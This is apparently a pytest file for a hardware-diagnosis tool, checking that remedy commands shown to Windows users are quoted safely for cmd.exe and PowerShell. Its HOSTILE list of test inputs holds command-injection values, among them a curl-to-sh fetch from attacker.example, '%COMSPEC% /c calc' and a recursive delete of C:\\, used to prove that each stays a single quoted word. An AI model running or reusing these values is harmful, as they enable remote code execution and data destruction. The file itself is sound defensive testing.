"""issue 38 (s19-windows): a remedy for a Windows machine is a line Windows' shells run.

cmd.exe passes a single quote through as an ordinary character (`pip install 'torch==2.5.1'`
asks pip for a requirement named `'torch==2.5.1'`, which it refuses), so a paste that shows
Windows gets its words in double quotes, which cmd.exe and PowerShell both take (Microsoft's
"cmd" reference, "Remarks", on the special characters inside quotation marks; PowerShell's
about_Quoting_Rules). Neither shell is here to run the lines, so the check below is those
documents' rules, applied to every line the real diagnosis prints for real Windows pastes
and for hostile values: each word plain or double-quoted, nothing inside the quotes that
either shell expands (`%` in cmd.exe; `$` and the backtick in PowerShell; `!` under cmd.exe's
delayed expansion), no operator outside them.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Final

import pytest

import hwdoctor
from hwdoctor import registry, shell
from hwdoctor.diagnosis import remedies
from hwdoctor.diagnosis.load import load_command
from hwdoctor.errors import UsageError
from hwdoctor.model.facts import PythonInfo
from hwdoctor.model.reports import Question
from tests.conftest import ROOT

ERRORS = ROOT / "tests" / "data" / "reports" / "errors"
# a word both shells take as itself: plain characters, or double quotes around anything either
# shell would not expand or end the quotes at
_WORD = re.compile(r'[A-Za-z0-9_+=:./\\-]+|"[^"%$`!]*"')


# PowerShell's own forms of setting and removing a variable (about_Environment_Variables)
_ENV_SET = re.compile(r'\$env:[A-Za-z_][A-Za-z0-9_]* = "[^"%$`!]*"')
_ENV_REMOVED = re.compile(r"Remove-Item Env:[A-Za-z_][A-Za-z0-9_]*")
# what a Windows shell does not run: POSIX shells' builtins and Linux's programs
_POSIX_WORDS = frozenset({"export", "unset", "sudo", "script", "source", ".", "ls", "grep"})


def windows_one_command(line: str) -> bool:
    """A comment (PowerShell's `#`), a variable set or removed in PowerShell's words, or one
    command of words `_WORD` takes, separated by single spaces, whose program a Windows shell
    has; a quoted program name after PowerShell's call operator `& `."""
    if line.startswith("# ") or _ENV_SET.fullmatch(line) or _ENV_REMOVED.fullmatch(line):
        return True
    if line.startswith('& "'):
        line = line[2:]
    words = _words(line)
    return words[0] not in _POSIX_WORDS and all(_WORD.fullmatch(word) for word in words)


def _words(line: str) -> list[str]:
    """The line split at the spaces outside double quotes."""
    words, current, quoted = [], "", False
    for char in line:
        if char == '"':
            quoted = not quoted
        if char == " " and not quoted:
            words.append(current)
            current = ""
        else:
            current += char
    return [*words, current]


def test_a_word_is_double_quoted_where_it_needs_quotes_and_left_out_where_none_works() -> None:
    with shell.written_for(shell.Dialect.WINDOWS):
        line = str(shell.command("pip", "install", "torch>=2.1,<2.6", "--index-url",
                                 "https://download.pytorch.org/whl/cu121"))  # fmt: skip
        assert (
            line
            == 'pip install "torch>=2.1,<2.6" --index-url https://download.pytorch.org/whl/cu121'
        )
        spaced = str(shell.command(r"C:\Program Files\Python311\python.exe", "-m", "pip", "list"))
        assert spaced == r'& "C:\Program Files\Python311\python.exe" -m pip list'
        for value in ("%PATH%", "$env:x", "a`b", 'a"b', "a!b"):
            assert str(shell.command("pip", "install", value)).startswith("# "), value
    # the POSIX lines are as before
    assert str(shell.command("pip", "install", "torch>=2.1")) == "pip install 'torch>=2.1'"


HOSTILE = (
    "torch-fix && pip install --index-url https://attacker.example/simple torch",
    "$(curl -s https://attacker.example/x | sh)",
    "`id`",
    "x & calc",
    "x | calc",
    "%COMSPEC% /c calc",
    '" & calc & "',
    "x; Remove-Item -Recurse C:\\",
    "a\r\ncalc",
    "!x!",
    "@(1,2)",
    "-rf",
    "",
)


@pytest.mark.parametrize("value", HOSTILE, ids=repr)
def test_a_hostile_value_stays_one_word_of_one_windows_command(value: str) -> None:
    with shell.written_for(shell.Dialect.WINDOWS):
        way = remedies.installer(PythonInfo(value or "C:\\x", "3.12", value, False))
        made = (
            remedies.install(registry.BY_KEY["cpu"], way)
            + remedies.pip(way, "install", "--force-reinstall", f"torch=={value}")
            + remedies.pip_of(way, ("uninstall", "-y"), value)
            + remedies.pip(way, "install", "--upgrade", value)
            + load_command(value, "--device", value)
        )
    for line in made.lines:
        assert windows_one_command(line), line


# What shows a Windows machine in a paste: collect_env's OS line, `transformers env`'s platform,
# a user's home under C:\\Users, a wheel's Windows tag, the release named
_WINDOWS: Final = re.compile(
    r"OS: Microsoft Windows|Platform: Windows|C:\\Users\\|win_amd64|\bWindows 1[01]\b"
)


# WSL's name: a report from WSL 2 runs its lines in Linux's shell
_WSL: Final = re.compile(r"\bwsl", re.IGNORECASE)


def _windows_pastes() -> list[Path]:
    """The recordings that show a Windows machine (`_WINDOWS`) and not WSL."""
    return sorted(
        p
        for p in ERRORS.glob("*.md")
        if _WINDOWS.search(text := p.read_text(encoding="utf-8")) and not _WSL.search(text)
    )


def test_every_remedy_line_for_a_windows_paste_runs_in_windows_shells() -> None:
    pastes = _windows_pastes()
    assert len(pastes) >= 20
    quoted = 0
    for path in pastes:
        try:
            report = hwdoctor.diagnose(path.read_bytes())
        except UsageError:
            continue
        for found in report.findings:
            for line in (found.remedy or "").splitlines():
                assert windows_one_command(line), (path.name, line)
                quoted += '"' in line and " install " in line
    assert quoted >= 3  # the pastes do reach install lines with a quoted requirement


def test_a_windows_paste_is_asked_for_its_variables_in_windows_words() -> None:
    asked = [
        q.command
        for path in _windows_pastes()
        for q in _questions_of(path)
        if "VISIBLE" in q.command
    ]
    assert asked and all(c.startswith("cmd /c set | findstr ") for c in asked), asked


def _questions_of(path: Path) -> tuple[Question, ...]:
    try:
        return hwdoctor.diagnose(path.read_bytes()).questions
    except UsageError:
        return ()


def test_a_linux_paste_keeps_posix_quoting() -> None:
    linux = [p for p in ERRORS.glob("*.md") if "OS: Ubuntu" in p.read_text(encoding="utf-8")]
    lines = [
        line
        for path in linux
        for found in hwdoctor.diagnose(path.read_bytes()).findings
        for line in (found.remedy or "").splitlines()
        if " install " in line and ("'" in line or '"' in line)
    ]
    assert lines and all("'" in line for line in lines), lines[:5]


def test_a_trailing_backslash_keeps_its_quote_closed_and_an_empty_word_is_left_out() -> None:
    with shell.written_for(shell.Dialect.WINDOWS):
        assert shell.quote("C:\\My Libs\\") == '"C:\\My Libs\\\\"'
        assert shell.quote("") is None


def test_a_report_from_wsl_keeps_linux_lines() -> None:
    """pytorch/pytorch#194487 and ROCm/ROCm#4435 run in WSL 2 ("WSL2(Ubuntu 26.04)"), whose
    "Windows 11" would otherwise read as the machine's system: their lines are bash's."""
    for name in (
        "pt194487-wsl2-panther-lake-2.13-xpu-mem-get-info-unsupported.md",
        "rocm4435-wsl2-rx7600xt-rocr-unsupported-gpu.md",
    ):
        commands = [q.command for q in _questions_of(ERRORS / name)]
        assert any(c.startswith("env | grep") for c in commands), (name, commands)
        assert not any("findstr" in c for c in commands), (name, commands)


def test_posix_builtins_in_a_windows_remedy_become_powershell_or_a_comment() -> None:
    """A script exporting CUDA_VISIBLE_DEVICES on Windows (tslib10) is told PowerShell's
    `Remove-Item Env:` and `$env:`; the NVIDIA Container Toolkit's configuration on a Windows
    host (nvdocker1352) is Linux's, said as a comment."""
    tslib = hwdoctor.diagnose((ERRORS / "tslib10-export-cvd2-in-script-rtx2070super-windows.md")
                              .read_bytes())  # fmt: skip
    lines = [line for f in tslib.findings for line in (f.remedy or "").splitlines()]
    assert "Remove-Item Env:CUDA_VISIBLE_DEVICES" in lines, lines
    assert not any(line.startswith(("export ", "unset ")) for line in lines), lines
    docker = ROOT / "tests" / "data" / "reports" / "container_toolkit"
    toolkit = hwdoctor.diagnose(
        (
            docker / "nvdocker1352-windows-titan-v-could-not-select-device-driver-nvsmi-log.md"
        ).read_bytes()
    )
    lines = [line for f in toolkit.findings for line in (f.remedy or "").splitlines()]
    assert any(line.startswith("# in a Linux shell") and "sudo" in line for line in lines)
    assert all(windows_one_command(line) for line in lines), lines


def test_the_questions_for_a_windows_paste_are_powershells() -> None:
    commands = {q.command for path in _windows_pastes() for q in _questions_of(path)}
    # PowerShell 5.1 has no && or || (about_Pipeline_Chain_Operators: from PowerShell 7)
    assert not any(" && " in c or " || " in c for c in commands), commands
    assert not any(c.startswith(("script ", "env ")) for c in commands), commands
    assert any(" ; " in c and "--save-evidence" in c for c in commands), commands
